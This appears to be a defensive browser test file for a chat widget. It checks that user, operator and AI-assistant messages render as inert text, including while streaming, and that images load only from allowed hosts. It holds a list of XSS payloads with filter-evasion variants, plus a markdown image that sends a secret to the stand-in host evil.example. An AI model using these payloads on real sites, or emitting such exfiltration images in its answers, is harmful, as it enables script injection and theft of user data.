/** What a model, a person of the team, or whoever sits between, might say to do harm: nothing runs, and nothing is fetched. */

import { expect, test } from '../support/stage.ts';
import { comeBack } from '../support/states.ts';

const EVIL = 'https://evil.example';
const RUN = 'window.attacked=1';

const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x></svg>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle="${RUN}">`,
  `<style>@import url(${EVIL}/style);</style><link rel=stylesheet href=${EVIL}/link>`,
  `<base href="${EVIL}"><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](java\tscript:${RUN})`,
  `[a](&#106;avascript:${RUN})`,
  `[a](data:text/html,<script>opener.${RUN}</script>)`,
  `[a](vbscript:${RUN})`,
  `[a](https://x.example" onmouseover="${RUN})`,
  `![secret](${EVIL}/pixel.png?d=SECRET)`,
  `![secret](http://images.example/pixel.png)`,
  `![secret](https://images.example.evil.example/pixel.png)`,
  `![secret](https://images.example@evil.example/pixel.png)`,
  `![secret](//evil.example/pixel.png)`,
  `[![x](${EVIL}/badge.png)](${EVIL}/page)`,
  `![x](data:image/svg+xml,<svg onload="${RUN}"/>)`,
  `\`\`\`html onload=${RUN}\n</code><img src=x onerror="${RUN}">\n\`\`\``,
  `| <img src=x onerror="${RUN}"> |\n|---|\n| ![x](${EVIL}/cell.png) |`,
  `> # <img src=${EVIL}/quote.png>`,
  `<${EVIL}/" onclick="${RUN}>`,
];

test('in answers, messages of people, names and sources it is text', async ({ stage }) => {
  const { page, widget, desk } = stage;
  const fetched: string[] = [];
  await comeBack(
    stage,
    PAYLOADS.flatMap((content) => [
      { role: 'user' as const, content },
      {
        role: 'assistant' as const,
        content,
        sources: [
          { title: content, url: content },
          { title: 'x', url: `javascript:${RUN}` },
        ],
      },
      { role: 'operator' as const, content, name: content.slice(0, 60) },
    ]),
  );
  page.on('request', (request) => fetched.push(request.url()));
  await expect(widget.log.getByRole('article')).toHaveCount(PAYLOADS.length * 3);
  await widget.log.evaluate((log) => log.scrollTo(0, 0));
  const links = await widget.log
    .getByRole('link')
    .evaluateAll((found) => found.map((link) => (link as HTMLAnchorElement).href));
  expect(links.length).toBeGreaterThan(3);
  for (const link of links) expect(link).toMatch(/^(https?|mailto|tel):/);
  await expect(widget.log.locator('img, script, iframe, style, link, base, meta, form, object, embed')).toHaveCount(0);
  // Whatever can be pressed in an answer is pressed, as far as it stays on this page.
  await widget.log.locator('.md :is(summary, details, button, svg)').evaluateAll((found) => {
    for (const part of found) part.dispatchEvent(new MouseEvent('click', { bubbles: true }));
  });
  await page.waitForTimeout(300);
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(fetched.filter((url) => !url.startsWith(desk.api))).toEqual([]);
});

test('while it streams in, letter by letter, nothing of it is fetched either', async ({ stage }) => {
  const { page, widget, desk } = stage;
  const fetched: string[] = [];
  page.on('request', (request) => fetched.push(request.url()));
  const text = PAYLOADS.join('\n\n');
  desk.answer = async (_, say) => {
    say({ type: 'start', messageId: 'answer', seq: 0 });
    for (let at = 0; at < text.length; at += 7) {
      say({ type: 'token', token: text.slice(at, at + 7), seq: at + 7 });
      if (at % 70 === 0) await new Promise((resolve) => setTimeout(resolve, 4));
    }
    say({ type: 'done', messageId: 'answer', message: text, status: 'complete', seq: text.length });
  };
  await widget.open();
  await widget.ask('Anything?');
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(fetched.filter((url) => !url.startsWith(desk.api))).toEqual([]);
  await expect(widget.log.locator('img')).toHaveCount(0);
});

test('images come from the hosts that the site allows, and from no other', async ({ stage }) => {
  const { page, widget } = stage;
  const fetched: string[] = [];
  await page.route(/images\.example|pictures\.example|evil\.example/, (route) => {
    fetched.push(route.request().url());
    return route.fulfill({
      contentType: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    });
  });
  await comeBack(stage, [
    { role: 'user', content: 'Show me' },
    {
      role: 'assistant',
      content: `![a tent](https://images.example/tent.png)\n\n![a stove](https://one.pictures.example/stove.png)\n\n![a boot](${EVIL}/boot.png)`,
    },
  ]);
  await expect(widget.log.getByRole('img', { name: 'a tent' })).toBeVisible();
  await expect(widget.log.getByRole('img', { name: 'a stove' })).toBeVisible();
  await expect(widget.log.getByRole('img', { name: 'a boot' })).toHaveCount(0);
  await expect(widget.log.getByRole('link', { name: 'a boot' })).toHaveAttribute('href', `${EVIL}/boot.png`);
  await expect
    .poll(() => fetched.sort())
    .toEqual(['https://images.example/tent.png', 'https://one.pictures.example/stove.png']);
});
